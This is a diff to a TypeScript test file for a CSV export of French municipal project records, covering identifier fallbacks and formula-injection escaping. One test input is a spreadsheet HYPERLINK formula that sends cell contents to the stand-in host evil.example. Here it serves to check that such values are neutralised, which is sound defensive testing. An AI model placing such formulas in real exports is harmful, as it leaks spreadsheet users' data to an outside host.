@@ -190,21 +190,62 @@ describe('Interconnectés public file (our data.csv, 16 columns)', () => {
     assert.throws(() => exportInterconnectes([asCoordinator]), /visiteur anonyme/);
   });
 
-  it('leaves out bodies without SIRET and fills the logo and date fallbacks', () => {
-    const foreign = present(
-      sampleRecord({ organisation: { ...SAMPLE_ORGANISATION, id: 3, siret: null, country: 'NL' }, organisationId: 3 }),
-      ANONYMOUS,
-    )!;
+  it('writes every sheet, with the best identifier known in the SIRET column, and lists every substitution', () => {
+    const withOrg = (id: number, org: Partial<typeof SAMPLE_ORGANISATION>) =>
+      present(
+        sampleRecord({ organisation: { ...SAMPLE_ORGANISATION, id, ...org }, organisationId: id, id }),
+        ANONYMOUS,
+      )!;
+    const foreign = withOrg(3, { siret: null, siren: null, inseeCode: null, country: 'NL', name: 'Gemeente Utrecht' });
+    const sirenOnly = withOrg(4, { siret: null, siren: '200046977', name: 'Métropole de Lyon' });
+    const inseeOnly = withOrg(5, { siret: null, siren: null, inseeCode: '49007', name: 'Angers' });
     const content = { ...filledContent(), logoUrl: null, infoUpdatedOn: null, projectStatus: 'exploration' as const };
     const french = present(sampleRecord({ content }), ANONYMOUS)!;
-    const result = exportInterconnectes([foreign, french], { defaultLogoUrl: 'https://exemple.fr/logo.svg' });
-    assert.equal(result.count, 1);
-    assert.equal(result.skipped.length, 1);
-    const row = parseCsv(result.csv).records[1]!.fields;
+    const result = exportInterconnectes([foreign, sirenOnly, inseeOnly, french], {
+      defaultLogoUrl: 'https://exemple.fr/logo.svg',
+    });
+    assert.equal(result.count, 4, 'une ligne par fiche, aucune omise');
+    assert.deepEqual(result.skipped, []);
+    const records = parseCsv(result.csv).records.slice(1);
+    assert.equal(records.length, 4);
+    const siret = INTERCONNECTES_PUBLIC_COLUMNS.indexOf('SIRET');
+    assert.deepEqual(
+      records.map((r) => r.fields[siret]),
+      ['', '200046977', '49007', '20004697700019'],
+    );
+    assert.deepEqual(
+      result.substituted.map((s) => [s.organisation, s.identifier]),
+      [
+        ['Gemeente Utrecht', 'aucun'],
+        ['Métropole de Lyon', 'SIREN'],
+        ['Angers', 'code INSEE'],
+      ],
+    );
+    assert.ok(result.substituted.every((s) => s.reason.length > 20));
+    const row = records[3]!.fields;
     assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('URL_Logo')], 'https://exemple.fr/logo.svg');
     assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Date_de_derniere_mise_a_jour')], '01/03/2025');
     assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Statut_du_projet')], 'En expérimentation');
-    assert.deepEqual(validateTable(schema, result.csv, { columns: 'subset', listFields: LIST_FIELDS }), []);
+    const withIdentifier = exportInterconnectes([sirenOnly, inseeOnly, french], {
+      defaultLogoUrl: 'https://exemple.fr/l.svg',
+    });
+    assert.deepEqual(validateTable(schema, withIdentifier.csv, { columns: 'subset', listFields: LIST_FIELDS }), []);
+  });
+
+  it('neutralises a hostile title or organisation name (formula injection)', () => {
+    const hostile = present(
+      sampleRecord({
+        organisation: { ...SAMPLE_ORGANISATION, name: '=1+1' },
+        content: { ...filledContent(), title: '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")' },
+      }),
+      ANONYMOUS,
+    )!;
+    const row = parseCsv(exportInterconnectes([hostile]).csv).records[1]!.fields;
+    assert.equal(row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Nom_collectivite')], "'=1+1");
+    assert.equal(
+      row[INTERCONNECTES_PUBLIC_COLUMNS.indexOf('Nom_du_projet')],
+      `'=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")`,
+    );
   });
 });
 
